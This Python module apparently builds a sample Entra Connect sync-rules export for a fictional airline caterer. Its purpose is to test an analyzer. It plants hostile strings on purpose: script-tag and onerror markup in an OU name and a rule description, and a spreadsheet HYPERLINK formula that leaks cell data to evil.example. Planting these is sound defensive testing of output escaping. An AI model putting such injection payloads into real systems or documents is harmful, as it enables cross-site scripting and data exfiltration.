"""``kestrel-custom``: one forest, and everything somebody can do in the Sync Rules Editor."""

from __future__ import annotations

from dataclasses import replace

from analyzer.configuration import ENTRA_CONNECTOR_ID, Direction, LinkType
from analyzer.connect.known_rules import Clause, KnownRules, StandardFlow
from sample_exports.generator.model import (
    Connector,
    Export,
    Partition,
    Rule,
    constant,
    direct,
    entra,
    expression,
    forest,
    identifier,
)
from sample_exports.generator.organisation import Organisation, Planted
from sample_exports.generator.settings import parameters
from sample_exports.generator.standard import WizardAnswers, change, clone, standard_rules

SLUG = "kestrel-custom"
SERVER = "KES-SYNC02"
BUILD = "2.5.79.0"
ROOT = "DC=kestrel,DC=example"
EXTENSION = "extension_7c0de0f1a2b34c5d8e9f00112233aabb"
CLASSES = ("contact", "foreignSecurityPrincipal", "group", "inetOrgPerson", "user")
HOSTILE_OU = (
    f"OU=\\<script\\>alert(1)\\</script\\> \\\"Marketing\\\" & 'PR',{ROOT}",
    "<script>alert(1)</script> \"Marketing\" & 'PR'",
)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Default country, see wiki")'
MARKUP = "<img src=x onerror=alert(2)> hides people from the address list"
USERS: tuple[tuple[Clause, ...], ...] = (
    (("sourceObjectType", "EQUAL", "User"), ("cloudMastered", "NOTEQUAL", "True")),
)


PEOPLE = f'dn ends with "OU=People,{ROOT}" OR dn ends with "OU=Zürich,OU=Field Offices,{ROOT}"'
WIDER = (
    ("user", "wider", "rule", "NOT extensionAttribute15 = NoSync"),
    ("user", "wider", "rule", PEOPLE),
    ("group", "wider", "rule", "NOT displayName starts with ZZ_"),
    ("contact", "wider", "class", "no enabled rule brings them into the metaverse"),
)
# The positive filter decides before the standard rules can keep system objects out.
NARROWER = tuple(
    ("user", "narrower", "rule", condition)
    for condition in (
        "sAMAccountName NOT EQUALS SUPPORT_388945a0",
        "mailNickname NOT REGEX MATCH ^SystemMailbox{",
        "sAMAccountName NOT REGEX MATCH ^AAD_",
        "sAMAccountName NOT REGEX MATCH ^MSOL_",
        "msExchRecipientTypeDetails !& 566259712",
        "distinguishedName NOT REGEX MATCH ^CN\\s*=\\s*([^\\,]*)\\0ACNF",
    )
)


def build(known: KnownRules) -> Organisation:
    """Return the organisation."""
    main = Partition(
        "kestrel.example",
        "KESTREL",
        inclusions=(ROOT, f"OU=Zürich,OU=Field Offices,{ROOT}"),
        exclusions=(
            f"OU=Field Offices,{ROOT}",
            f"OU=Leavers,OU=Zürich,OU=Field Offices,{ROOT}",
            f"OU=Service Accounts,{ROOT}",
            f"OU=Legal\\, Risk and Compliance,{ROOT}",
            f"CN=Users,{ROOT}",
            HOSTILE_OU[0],
        ),
        classes=CLASSES,
    )
    lab = Partition("lab.kestrel.example", "KESTRELLAB", selected=False, classes=CLASSES)
    directory = forest(SLUG, main, lab, login_user="svc-entra-sync", password_hash_sync=True)
    cloud = entra("kestrelair", SERVER, password_writeback=False, classes=("contact", "group", "user"))
    return Organisation(
        title="Kestrel: rules of their own",
        story=(
            "An airline caterer with one forest of two domains (the laboratory is not synchronised) and an\n"
            "administrator who liked the Sync Rules Editor: custom rules of every common kind, a clone with its\n"
            "disabled original, one standard rule changed in place, one switched off, one deleted. Sign-in uses the\n"
            "mail address, directory extensions are on, some applications and attributes are filtered out.\n"
            "Names of containers and texts of rules are hostile on purpose."
        ),
        shows=(
            ("Containers", "include, exclude, include, exclude in one branch; an escaped comma; a CN= container"),
            ("Hostile text", "markup in an OU name and a description, a formula as description"),
            ("Alternate login ID", "UPNAttribute is mail; the standard flows follow it and count as standard"),
        ),
        export=Export(
            slug=SLUG,
            server=SERVER,
            exported_at="2026-11-12 16:03:11.020",
            build=BUILD,
            parameters=parameters(
                BUILD,
                SynchronizationOption__UPNAttribute="mail",
                OptionalFeature__DirectoryExtension="True",
                OptionalFeature__DirectoryExtensionAttributes="employeeNumber.user.String.True,division.user.String.True",
                DirectoryExtension__SourceTargetAttributesMap=(
                    f"employeeNumber.{EXTENSION}_employeeNumber,division.{EXTENSION}_division"
                ),
                OptionalFeature__FilterAAD="True",
                AADFilter__ApplicationList="ExchangeOnline,SharePointOnline",
                AADFilter__AttributeExclusionList="facsimileTelephoneNumber,pager",
            ),
            connectors=(directory, cloud),
            rules=(*_custom_rules(directory), *_standard_rules(known, directory, cloud)),
        ),
        planted=_planted(directory),
    )


def _planted(directory: Connector) -> Planted:
    return Planted(
        features={
            "yes": (
                "objects-user-group-contact",
                "single-forest",
                "phs",
                "ou-filter",
                "attribute-filter",
                "attribute-filter-scenario",
                "custom-ad-attributes",
                "advanced-sync-rules",
                "custom-upn",
                "minsync",
                "basic-attribute-customization",
                "consistencyguid-writeback",
                "accidental-delete",
            ),
            "no": (
                "multi-forest-connected",
                "password-writeback",
                "exchange-hybrid-attributes",
                "device-sync",
                "device-writeback",
                "group-writeback-v1",
                "tool-group-filter",
                "source-anchor-choice",
                "sso",
                "ldap",
                "mail-public-folders",
                "merge-attributes",
            ),
            "unknown": ("scale-per-domain", "large-groups", "staging", "same-domain-parallel"),
        },
        lane="staged",
        lane_because="custom rules, alternate login ID and directory extensions block Microsoft's tool; "
        "each has a way by hand.",
        failing_checks=("custom-rules", "custom-upn", "directory-extensions", "additive-inclusion", "build"),
        open_checks=("objects", "writeback", "wave", "existing-configuration", "roles"),
        missing=(("In from AD - ForeignSecurityPrincipal Join User", directory.name),),
        hostile=(HOSTILE_OU[1], MARKUP, HYPERLINK),
        scope=tuple(("kestrel.example", *row) for row in (*WIDER, *NARROWER)),
    )


def _standard_rules(known: KnownRules, directory: Connector, cloud: Connector) -> list[Rule]:
    answers = WizardAnswers(
        upn="mail",
        without=frozenset({"exchange-schema", "skype-schema", "exchange-hybrid-or-writeback", "device-sync"}),
        without_classes=frozenset({"computer", "msDS-Device"}),
    )
    rules = standard_rules(SLUG, known, (directory, cloud), answers)
    rules = [r for r in rules if not r.name.endswith((" Intune", " DynamicsCRM", " LyncOnline", " AzureRMS"))]
    rules = [r for r in rules if r.name != "In from AD - ForeignSecurityPrincipal Join User"]

    original = next(r for r in rules if r.name == "In from AD - User Common")
    display = expression("displayName", '[sn] & ", " & [givenName]', "sn", "givenName")
    copied = clone(
        original,
        "3/4/2025 10:12:01 AM",
        80,
        flows=tuple(display if f.target == "displayName" else f for f in original.flows),
        changes=("attribute flow changed: displayName",),
    )
    rules = change(rules, original.name, directory.id, lambda r: replace(r, disabled=True))
    rules = change(
        rules,
        "In from AD - Group Join",
        directory.id,
        lambda r: replace(
            r,
            scope=((*r.scope[0], ("displayName", "NOTSTARTSWITH", "ZZ_")),),
            origin="standard-modified",
            changes=("scoping filter: displayName NOTSTARTSWITH ZZ_",),
        ),
    )
    rules = change(rules, "In from AD - Contact Join", directory.id, lambda r: replace(r, disabled=True))
    return [copied, *rules]


def _custom_rules(directory: Connector) -> list[Rule]:
    own = _Custom(directory.id)
    return [
        own.inbound(
            "In from AD - User NoSync",
            50,
            (constant("cloudFiltered", "True"),),
            ((("extensionAttribute15", "EQUAL", "NoSync"),),),
            "Keeps people out who are marked NoSync.",
        ),
        own.inbound(
            "In from AD - User usageLocation default",
            55,
            (constant("usageLocation", "CH"),),
            ((("c", "ISNULL", ""),),),
            HYPERLINK,
        ),
        own.inbound(
            "In from AD - User UPN suffix",
            60,
            (
                expression(
                    "userPrincipalName",
                    'IIF(InStr([userPrincipalName],"@ad.kestrel.example") > 0,\n'
                    '  Left([userPrincipalName],InStr([userPrincipalName],"@") - 1) & "@kestrel.example",\n'
                    "  IgnoreThisFlow)",
                    "userPrincipalName",
                ),
            ),
            (),
        ),
        own.inbound(
            "In from AD - User HideFromGAL",
            65,
            (
                expression(
                    "msExchHideFromAddressLists",
                    'IIF([msDS-cloudExtensionAttribute1]="HideFromGAL",True,NULL)',
                    "msDS-cloudExtensionAttribute1",
                ),
            ),
            (),
            MARKUP,
        ),
        own.inbound(
            "In from AD - User type",
            70,
            (
                expression(
                    "userType",
                    'IIF(IsPresent([employeeType]),IIF([employeeType]="External","Guest","Member"),"Member")',
                    "employeeType",
                ),
            ),
            (),
        ),
        own.outbound("Out to AAD - User type", 71, (direct("userType"),)),
        own.outbound("Out to AAD - User cost center", 72, (direct(f"{EXTENSION}_costCenter", "extensionAttribute3"),)),
        own.inbound(
            "In from AD - User in People",
            90,
            (constant("cloudFiltered", "False"),),
            ((("dn", "ENDSWITH", f"OU=People,{ROOT}"),), (("dn", "ENDSWITH", f"OU=Zürich,OU=Field Offices,{ROOT}"),)),
            "Positive filter: who is named here is synchronised.",
        ),
        own.inbound(
            "In from AD - User catch-all",
            99,
            (constant("cloudFiltered", "True"),),
            (),
            "Positive filter: everybody else is not synchronised.",
        ),
    ]


class _Custom:
    """Makes custom rules of one AD connector and of the Entra connector."""

    def __init__(self, directory: str) -> None:
        self._directory = directory

    def inbound(
        self,
        name: str,
        precedence: int,
        flows: tuple[StandardFlow, ...],
        scope: tuple[tuple[Clause, ...], ...],
        description: str = "",
    ) -> Rule:
        return Rule(
            id=identifier(SLUG, "custom", name),
            name=name,
            direction=Direction.INBOUND,
            connector=self._directory,
            source_type="user",
            target_type="person",
            link_type=LinkType.JOIN,
            precedence=precedence,
            flows=flows,
            scope=scope,
            description=description,
        )

    def outbound(self, name: str, precedence: int, flows: tuple[StandardFlow, ...]) -> Rule:
        return Rule(
            id=identifier(SLUG, "custom", name),
            name=name,
            direction=Direction.OUTBOUND,
            connector=ENTRA_CONNECTOR_ID,
            source_type="person",
            target_type="user",
            link_type=LinkType.JOIN,
            precedence=precedence,
            flows=flows,
            scope=USERS,
        )
